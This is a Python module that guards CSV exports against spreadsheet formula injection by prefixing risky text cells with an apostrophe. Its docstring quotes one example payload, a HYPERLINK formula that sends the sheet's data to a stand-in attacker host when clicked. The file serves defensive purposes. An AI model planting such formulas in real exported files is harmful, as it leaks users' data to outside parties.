"""CSV files the app writes: every cell that a spreadsheet would read as a formula is made text.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run by Excel and
LibreOffice as a formula (``=HYPERLINK("http://evil.example/?"&A1,"x")`` sends the sheet's data
away when clicked). Such a cell gets a leading ``'`` (OWASP's advice), which the spreadsheet shows
as text. Numbers are written by the caller as already formatted text in the reader's language;
a negative number written that way would be neutralised too, so callers pass numbers as
int/float (never escaped) or format them themselves knowing that.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> object:
    """The cell as written: text that could start a formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, (int, float)):
        text = str(value)
        if text.startswith(FORMULA_STARTS):
            return "'" + text
        return text
    return value


class SafeWriter:
    """csv.writer with every text cell neutralised (see the module docstring)."""

    def __init__(self, out, **kwargs) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_bytes(rows: Iterable[Iterable], *, delimiter: str = ";") -> bytes:
    """A whole file: UTF-8 with a BOM (Excel then reads ä and ö right), cells neutralised."""
    out = io.StringIO()
    SafeWriter(out, delimiter=delimiter).writerows(rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")
